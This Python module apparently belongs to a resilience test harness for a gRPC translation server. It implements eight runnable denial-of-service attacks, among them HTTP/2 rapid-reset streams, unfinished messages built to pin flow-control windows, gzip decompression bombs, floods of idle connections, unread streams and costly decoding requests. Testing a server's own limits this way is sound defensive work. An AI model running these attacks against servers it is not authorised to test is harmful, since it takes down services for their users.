"""Attacks on a server, each of which goes on until its process is killed. Arguments: address, name of the client."""

from __future__ import annotations

import itertools
import socket
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

import grpc

from dragoman_protos.v1 import translation_pb2 as pb
from faults.http2 import (
    DATA,
    END_HEADERS,
    HEADERS,
    HELLO,
    RST_STREAM,
    WINDOW_UPDATE,
    call_headers,
    connection,
    frame,
    frames,
    message,
)

TRANSLATE = "/dragoman.v1.Translation/Translate"
STREAM = "/dragoman.v1.Translation/TranslateStream"
MEBIBYTE = 2**20


class Unfinished(threading.Thread):
    """A connection of calls whose messages lack their last byte, sent as fast as the flow control of HTTP/2 allows."""

    def __init__(self, opened: socket.socket, calls: int, size: int, client: str = "") -> None:
        super().__init__(daemon=True)
        self._socket = opened
        self._client = client
        self._left = {2 * number + 1: size for number in range(calls)}  # bytes to be sent, but for the last one
        self._windows = dict.fromkeys([0, *self._left], 65_535)
        self.sent = 0
        self.ended = 0
        self.start()

    def run(self) -> None:
        block = call_headers(TRANSLATE, *([(b"x-client", self._client.encode())] if self._client else []))
        with suppress(OSError):
            self._socket.settimeout(None)
            self._socket.sendall(HELLO)
            for stream, size in self._left.items():
                start = message(b"", length=size + 1)
                self._socket.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, start))
                self._spend(stream, len(start))
            for kind, stream, payload in frames(self._socket):
                if kind == WINDOW_UPDATE:
                    self._windows[stream] += int.from_bytes(payload, "big")
                elif kind == RST_STREAM:
                    self.ended += self._left.pop(stream, None) is not None
                    if not self._left:
                        return
                for ready in [stream] if stream in self._left else list(self._left):
                    self._send(ready)

    def _send(self, stream: int) -> None:
        while count := min(self._windows[0], self._windows[stream], self._left[stream], 16_384):
            self._socket.sendall(frame(DATA, 0, stream, bytes(count)))
            self._spend(stream, count)
            self._left[stream] -= count
            self.sent += count

    def _spend(self, stream: int, count: int) -> None:
        self._windows[0] -= count
        self._windows[stream] -= count


def unfinished_messages(address: str, client: str) -> None:
    """Five connections of sixty messages each, again and again."""
    while True:
        with ExitStack() as stack:
            threads = [Unfinished(stack.enter_context(connection(address)), 60, 4_000_000, client) for _ in range(5)]
            for thread in threads:
                thread.join(40)


def empty_texts(address: str, client: str) -> None:
    """Millions of empty texts, compressed to a few kilobytes."""
    _repeat(address, client, b"\x0a\x00" * (2 * MEBIBYTE - 100), 8, grpc.Compression.Gzip)


def bombs(address: str, client: str) -> None:
    """Small bytes that unpack to 32 MiB."""
    _repeat(address, client, bytes(32 * MEBIBYTE), 4, grpc.Compression.Gzip)


def heavy_calls(address: str, client: str) -> None:
    """The widest beams, the most hypotheses, the longest translations."""
    options = pb.DecodingOptions(beam_size=16, num_hypotheses=16, min_length=100)
    _repeat(address, client, pb.TranslateRequest(texts=["yes\n" * 19] * 1000, options=options).SerializeToString(), 20)


def slow_texts(address: str, client: str) -> None:
    """Texts that take long to split into sentences."""
    options = pb.DecodingOptions(beam_size=1, max_length=1)
    texts = ["漢。" * 33_000, "“a" * 33_000, "a\n" * 50_000, "A. " * 33_000]
    _repeat(address, client, pb.TranslateRequest(texts=texts, options=options).SerializeToString(), 4)


def resets(address: str, client: str) -> None:
    """Calls that are opened and reset at once."""
    block = call_headers(TRANSLATE, (b"x-client", client.encode()))
    cancelled = (8).to_bytes(4, "big")
    while True:
        with suppress(OSError), connection(address) as opened:
            opened.sendall(HELLO)
            for stream in range(1, 20_001, 2):
                opened.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancelled))
                if stream % 200 == 1:
                    time.sleep(0.01)


def silent_connections(address: str, client: str) -> None:
    """Hundreds of connections that say nothing, and new ones all the time."""
    host, _, port = address.rpartition(":")
    opened: list[socket.socket] = []
    while True:
        with suppress(OSError):
            opened.append(socket.create_connection((host, int(port)), timeout=5))
        if len(opened) > 800:
            opened.pop(0).close()
        time.sleep(0.005)


def unread_streams(address: str, client: str) -> None:
    """Streams whose pieces nobody reads."""
    request = pb.TranslateStreamRequest(text="The cat reads a book. " * 2000).SerializeToString()
    block = call_headers(STREAM, (b"x-client", client.encode()))
    while True:
        with suppress(OSError), connection(address) as opened:
            opened.sendall(HELLO)
            for stream in range(1, 40, 2):
                opened.sendall(frame(HEADERS, END_HEADERS, stream, block) + _data(stream, message(request)))
            time.sleep(20)


def _data(stream: int, data: bytes) -> bytes:
    parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
    return b"".join(frame(DATA, 1 if part is parts[-1] else 0, stream, part) for part in parts)


def _repeat(
    address: str, client: str, data: bytes, at_once: int, compression: grpc.Compression = grpc.Compression.NoCompression
) -> None:
    """Keep calls with these bytes running, some seconds each."""
    with grpc.insecure_channel(address, compression=compression) as channel:
        call = channel.unary_unary(TRANSLATE)
        for _ in itertools.count():
            futures = [call.future(data, timeout=120, metadata=(("x-client", client),)) for _ in range(at_once)]
            ends = time.monotonic() + 10
            for future in futures:
                with suppress(grpc.RpcError, grpc.FutureTimeoutError):
                    future.result(max(0.05, ends - time.monotonic()))
                future.cancel()
            time.sleep(0.05)


ATTACKS: dict[str, Callable[[str, str], None]] = {
    attack.__name__: attack
    for attack in (
        unfinished_messages,
        empty_texts,
        bombs,
        heavy_calls,
        slow_texts,
        resets,
        silent_connections,
        unread_streams,
    )
}
